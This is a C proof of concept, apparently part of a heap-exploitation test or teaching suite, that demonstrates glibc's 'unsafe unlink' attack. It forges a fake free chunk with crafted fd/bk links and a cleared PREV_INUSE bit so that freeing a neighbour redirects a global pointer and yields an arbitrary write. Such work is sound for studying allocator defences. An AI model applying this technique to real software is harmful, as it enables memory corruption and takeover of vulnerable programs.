/* Unsafe unlink: a global `slot` holds block a (as a program's table of pointers would).
 * Overflowing a, the attacker forges a free chunk inside a whose links point around `slot`
 * (fd = &slot - 3 words, bk = &slot - 2 words: exactly what passes glibc's
 * fd->bk == p && bk->fd == p check), sets b's prev_size to reach the fake chunk and clears
 * b's PREV_INUSE. Freeing b consolidates backwards and unlinks the fake chunk, whose link
 * writes redirect `slot` to &slot - 3: the attacker now writes through `slot` to memory of
 * their choice. Success: `slot` no longer holds a.
 *
 * Sizes: 0x418 (chunk 0x420) is the smallest glibc chunk past the tcache. */
#include "attack.h"

static void *volatile slot;

int main(int argc, char **argv)
{
    enum tier tier = attack_tier(argc, argv);
    size_t request = tier == TIER_SMALL ? 0x418 : MEDIUM_REQUEST;
    char *a = malloc(request);
    char *b = malloc(request);
    void *barrier = malloc(request);
    slot = a;

    size_t usable = malloc_usable_size(a);
    size_t fake_size = usable - GLIBC_SIZE_WORD;
    uintptr_t where = (uintptr_t)&slot;
    poke(a, 0, 0);
    poke(a, 8, fake_size);
    poke(a, 16, where - 3 * sizeof(void *)); /* fd: fd->bk is slot */
    poke(a, 24, where - 2 * sizeof(void *)); /* bk: bk->fd is slot */
    poke(a, 32, 0);
    poke(a, 40, 0);
    poke(a, (ptrdiff_t)usable - 8, fake_size);     /* b's prev_size */
    /* b's size word: its glibc chunk size, PREV_INUSE clear ("a is free"). */
    poke(a, (ptrdiff_t)usable, usable + GLIBC_SIZE_WORD);

    free(b);
    if (slot != a)
        attack_succeeded("the unlink rewrote the global pointer: slot = %p (a was %p, &slot = %p)", slot,
                         (void *)a, (void *)&slot);
    free(barrier);
    free(a);
    attack_failed("the forged links were never followed");
}
